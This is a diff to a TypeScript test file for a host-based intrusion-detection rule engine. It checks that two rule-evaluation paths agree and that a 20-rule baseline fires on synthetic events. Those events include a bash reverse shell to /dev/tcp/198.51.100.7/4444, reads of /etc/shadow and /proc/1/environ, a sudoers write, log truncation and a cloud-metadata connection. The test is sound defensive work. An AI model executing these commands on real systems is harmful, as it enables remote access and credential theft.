@@ -24,13 +24,19 @@ const writeRules = (name: string, text: string) => {
 const id: Identity = { ts: 1n, pid: 500, ppid: 1, uid: 1000, comm: 'sh' };
 const O_WRONLY_CREAT_TRUNC = 0o1101;
 
+const SOURCE = { host: 'h', clock: null, users: new Map<number, string>() };
+
+/** The alerts on each record, by the rules over decoded facts and by the rules compiled over record bytes: the two must agree. */
 function alertsFor(records: Uint8Array[], engine = new AlertEngine(builtinRules(DEFAULT_ALERT_PORTS, ['203.0.113.0/24']).map(compileRule))): string[] {
   const table = new ProcessTable();
   const out: string[] = [];
   for (const r of records) {
     const kind = classifyRecord(r, 0, r.length);
     const node = table.apply('h', kind, r, 0);
-    for (const a of engine.evaluate(eventFacts(kind, r, 0, node), null)) out.push(a.rule_id);
+    const byFacts = engine.evaluate(eventFacts(kind, r, 0, node), null);
+    const byRecord = engine.evaluateRecord(kind, r, 0, node, SOURCE);
+    expect(byRecord).toEqual(byFacts);
+    for (const a of byFacts) out.push(a.rule_id);
   }
   return out;
 }
@@ -148,6 +154,31 @@ match = { path = { prefix = ["/root/.ssh/", "/home/"], not_suffix = ".pub" }, co
     expect(alertsFor(recs, engine)).toEqual(['a', 'b']);
   });
 
+  it('rules/host-baseline.toml (the 20 rules the bench runs) loads and each family of its rules fires', () => {
+    const file = loadRuleFile(`${REPO_ROOT}rules/host-baseline.toml`);
+    expect(file.rules).toHaveLength(20);
+    const engine = new AlertEngine(file.rules.map(compileRule));
+    const py: Identity = { ts: 1n, pid: 20, ppid: 1, uid: 1000, comm: 'python3' };
+    const web: Identity = { ts: 1n, pid: 30, ppid: 1, uid: 33, comm: 'nginx' };
+    const recs = [
+      execRecord(py, '/usr/bin/python3', ['python3', '-c', 'import socket,subprocess']),
+      openRecord(py, '/etc/shadow', 0, 3),
+      openRecord(py, '/etc/shadow', 0, -13),
+      openRecord(py, '/etc/sudoers.d/90-x', O_WRONLY_CREAT_TRUNC, 4),
+      openRecord(py, '/var/log/auth.log', O_WRONLY_CREAT_TRUNC, 5),
+      openRecord(py, '/proc/1/environ', 0, 6),
+      connectRecord(py, AF_INET, [169, 254, 169, 254], 80, 0),
+      connectRecord(py, AF_INET, [198, 51, 100, 7], 9050, -111),
+      execRecord(web, '/usr/sbin/nginx', ['nginx']),
+      forkRecord(web, 31),
+      execRecord({ ...web, pid: 31, ppid: 30, comm: 'bash' }, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']),
+    ];
+    expect(alertsFor(recs, engine)).toEqual([
+      'execution.interpreter_inline', 'credential.shadow_read', 'persistence.sudoers', 'defense_evasion.log_truncated', 'discovery.process_memory',
+      'network.cloud_metadata', 'network.tor', 'execution.reverse_shell', 'execution.web_server_child',
+    ]);
+  });
+
   // Each operator and its not_* form, one rule each: every rule fires on exactly the events listed for it.
   it('tests every operator and its not_* form from a rule file', () => {
     const rule = (id: string, event: string, match: string) => `[[rules]]\nid = "${id}"\ntitle = "${id}"\nevent = "${event}"\nmatch = ${match}\n`;
@@ -190,6 +221,7 @@ match = { path = { prefix = ["/root/.ssh/", "/home/"], not_suffix = ".pub" }, co
     for (const [record, expected] of cases) {
       const kind = classifyRecord(record, 0, record.length);
       const fired = engine.evaluate(eventFacts(kind, record, 0, null), null).map((a) => a.rule_id);
+      expect(engine.evaluateRecord(kind, record, 0, null, SOURCE).map((a) => a.rule_id)).toEqual(fired);
       expect(fired.sort(), JSON.stringify(eventFacts(kind, record, 0, null).get('path') ?? eventFacts(kind, record, 0, null).get('addr'))).toEqual([...expected].sort());
     }
     // Every rule of the file fired somewhere, and stayed quiet somewhere.
